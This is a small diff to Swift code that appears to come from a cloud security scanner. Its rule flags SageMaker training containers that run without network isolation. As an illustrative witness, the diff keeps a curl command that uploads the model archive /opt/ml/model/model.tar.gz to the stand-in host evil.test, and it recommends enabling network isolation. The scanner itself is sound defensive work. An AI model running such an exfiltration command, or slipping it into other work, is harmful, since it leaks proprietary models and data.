@@ -105,7 +105,8 @@ struct IsolationRoute: Route {
         .open(
           name,
           RouteWitness(
-            "curl --data-binary @/opt/ml/model/model.tar.gz https://evil.test/  # in the container's entry point",
+            "curl --data-binary @/opt/ml/model/model.tar.gz https://evil.test/",
+            by: .author(of: resource, door: "SageMaker's own network"),
             story:
               "The container of \(name) stands in SageMaker's network and sends its model and its input out.",
             fix: "set EnableNetworkIsolation to true", at: resource, isolation[0])))
